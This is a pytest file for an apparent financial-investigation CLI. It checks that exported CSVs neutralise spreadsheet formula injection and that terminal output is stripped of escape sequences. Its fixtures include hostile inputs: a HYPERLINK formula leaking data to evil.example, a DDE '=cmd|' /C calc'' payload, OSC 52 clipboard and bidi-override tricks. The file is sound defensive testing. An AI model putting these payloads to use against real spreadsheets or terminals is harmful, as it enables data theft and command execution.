"""Outputs that are safe to open: CSVs a spreadsheet cannot run, terminal text that cannot drive a terminal."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta
from pathlib import Path

import pandas as pd
import pytest
from casebuilder import account, write_generic_csv
from click.testing import CliRunner

from finflow.cli import main
from finflow.safecsv import FORMULA_TRIGGERS, csv_text, defuse, write_csv, write_rows
from finflow.terminal import clean

ESCAPES = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b[31m"  # OSC 52 (set clipboard), clear screen, red
HOSTILE_HOLDER = '=HYPERLINK("http://evil.example/?leak="&A1,"Mona")' + ESCAPES + " Mona"
HOSTILE_CLIENTS = ["@SUM(1+1)", "+47 cmd", "-2+3", "\tPer Olsen", "\rJon Berg", "Ali Khan", "Lars Dahl",
                   "Tor Moe", "Erik Lie", "Nils Bakke", "Ærlig Øyvind Åsen"]  # fmt: skip
_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _collector_rows() -> list[dict]:
    """Eleven unrelated private senders paying one account that forwards everything abroad."""
    collector, start, rows = account(900), date(2026, 3, 2), []
    for i, name in enumerate(HOSTILE_CLIENTS):
        for k in range(2):
            rows.append({
                "date": (start + timedelta(days=i * 2 + k)).isoformat(), "time": "23:15", "amount": "1200",
                "currency": "NOK", "from_account": account(i), "from_name": name, "to_account": collector,
                "to_name": HOSTILE_HOLDER, "channel": "p2p", "description": "=cmd|' /C calc'!A0",
                "txn_ref": f"in-{i}-{k}",
            })  # fmt: skip
    for n, row in enumerate(list(rows)):
        day = date.fromisoformat(row["date"]) + timedelta(days=1)
        rows.append({
            "date": day.isoformat(), "time": "10:00", "amount": "1200", "currency": "NOK",
            "from_account": collector, "from_name": HOSTILE_HOLDER, "to_account": "RO49AAAA1B31007593840000",
            "to_name": "Receiver", "channel": "remittance", "description": "send", "txn_ref": f"out-{n}",
        })  # fmt: skip
    rows.append({"date": "2026-03-25", "amount": "500", "currency": "NOK", "from_account": collector,
                 "to_account": "@SUM(9)", "txn_ref": "odd"})  # an unvalidated account id a sheet would run
    rows.append({"date": "2026-13-01", "amount": "1", "currency": "NOK", "from_account": "=1+1",
                 "to_account": account(2), "description": "@evil"})  # a reject whose raw text is hostile
    return rows


def _cells(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), f"{path.name}: no UTF-8 byte-order mark"
    assert b"\r\n" not in raw, f"{path.name}: CRLF line endings"
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _assert_defused(path: Path) -> int:
    """No cell a spreadsheet would run; returns how many cells were defused (the test must see some)."""
    defused = 0
    for row in _cells(path):
        for cell in row:
            if cell.startswith("'") and cell[1:2] in FORMULA_TRIGGERS:
                defused += 1
            assert not cell.startswith(FORMULA_TRIGGERS) or _NUMBER.fullmatch(cell), f"{path.name}: {cell!r}"
    return defused


# -- the writer ------------------------------------------------------------------------------------
@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx", "-5"])
def test_text_that_a_spreadsheet_would_run_gets_a_quote(text):
    assert defuse(text) == "'" + text


@pytest.mark.parametrize("value", [-5, 0, 12, -1200.5, 3.25, True])
def test_numbers_stay_numbers(value):
    assert defuse(value) is value


@pytest.mark.parametrize("value", ["Kari Nordmann", "Øst 1=2", "a-b", "", "1200.50"])
def test_harmless_text_is_unchanged(value):
    assert defuse(value) == value


def test_frames_keep_numeric_columns_and_defuse_text_columns(tmp_path):
    frame = pd.DataFrame({
        "amount_minor": pd.Series([-150_000, 200], dtype="int64"),
        "score": [0.5, -0.25],
        "name": pd.Series(["=cmd", "Åse Ødegård"], dtype="string[pyarrow]"),
        "note": ["-3+3", None],
    })  # fmt: skip
    path = write_csv(tmp_path / "x.csv", frame)
    assert _cells(path) == [
        ["amount_minor", "score", "name", "note"],
        ["-150000", "0.5", "'=cmd", "'-3+3"],
        ["200", "-0.25", "Åse Ødegård", ""],
    ]
    first = path.read_bytes()
    assert write_csv(tmp_path / "x.csv", frame).read_bytes() == first  # same rows, same bytes
    assert not list(tmp_path.glob(".*.tmp"))


def test_rows_writer_and_piped_text(tmp_path):
    path = write_rows(tmp_path / "r.csv", ["a", "b"], [[-1, "=x"], ["æøå", None]])
    assert _cells(path) == [["a", "b"], ["-1", "'=x"], ["æøå", ""]]
    assert path.read_text(encoding="utf-8-sig") == "a,b\n-1,'=x\næøå,\n"
    assert csv_text(["a"], [["@x"]], bom=False) == "a\n'@x\n"


def test_excel_reads_norwegian_letters_from_the_bom(tmp_path):
    path = write_rows(tmp_path / "n.csv", ["navn"], [["Bjørn Ås Ærø"]])
    assert path.read_bytes() == "\ufeffnavn\nBjørn Ås Ærø\n".encode()


# -- the terminal ----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b]52;c;ZXZpbA==\x07Kari", "Kari"),  # OSC 52 ended by BEL
        ("\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\", "link"),  # OSC 8 hyperlink ended by ST
        ("\x1b[2J\x1b[1;31mOla\x1b[0m", "Ola"),  # CSI: clear screen, colours
        ("\x9b2JPer\x9d0;title\x9c", "Per"),  # 8-bit C1 CSI and OSC
        ("a\rb\x00c\x07d\x7fe\x85f", "abcdef"),  # CR, NUL, BEL, DEL, NEL
        ("Åse\tØdegård\nlinje 2", "Åse Ødegård\nlinje 2"),
        ("evil\u202egnp.exe", "evilgnp.exe"),  # bidi override
        ("\x1bPq#0;2;0;0;0\x1b\\Ane", "Ane"),  # DCS (sixel) string
    ],
)
def test_clean_removes_control_sequences(text, shown):
    assert clean(text) == shown


def test_clean_leaves_printable_text_alone():
    text = "Kari Nordmann (12345678903): NOK 1 200, «husleie» — ĳ ß 中文"
    assert clean(text) is text or clean(text) == text


# -- end to end: every CSV investigate writes, and what it prints ---------------------------------
@pytest.mark.slow
def test_investigate_writes_only_safe_csvs_and_clean_terminal_text(tmp_path):
    inbox = tmp_path / "in"
    inbox.mkdir()
    write_generic_csv(inbox / "=HYPERLINK(evil)\x1b[2J.csv", _collector_rows())
    result = CliRunner().invoke(
        main,
        ["investigate", str(inbox), "--case", str(tmp_path / "case"), "--out", str(tmp_path / "out"),
         "--subject-views", "1", "--finding-views", "1"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output and "\r" not in result.output
    assert "=HYPERLINK(evil).csv" in result.output  # the file name, cleaned
    assert 'controller       =HYPERLINK("http://evil' in result.output  # the findings table, cleaned
    traced = CliRunner().invoke(
        main, ["trace", account(900), "--case", str(tmp_path / "case"), "--out", str(tmp_path / "out" / "trace")]
    )
    assert traced.exit_code == 0, traced.output
    assert "\x1b" not in traced.output and "country:RO" in traced.output and "@SUM(9)" in traced.output
    csvs = sorted([*(tmp_path / "out").rglob("*.csv"), tmp_path / "case" / "rejects.csv"])
    names = {p.name for p in csvs}
    assert {"findings.csv", "subjects.csv", "possible_victims.csv", "rejects.csv", "trace.csv"} <= names
    defused = {p.name: _assert_defused(p) for p in csvs}
    assert defused["findings.csv"] and defused["subjects.csv"] and defused["rejects.csv"]
    assert defused["trace.csv"]
    findings = _cells(tmp_path / "out" / "findings.csv")
    assert any(cell.startswith("'=HYPERLINK") for row in findings for cell in row)


def test_csv_reader_round_trip_of_a_defused_cell():
    text = csv_text(["name"], [['=HYPERLINK("x","y")']])
    (row,) = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[1:]
    assert row == ["'=HYPERLINK(\"x\",\"y\")"]
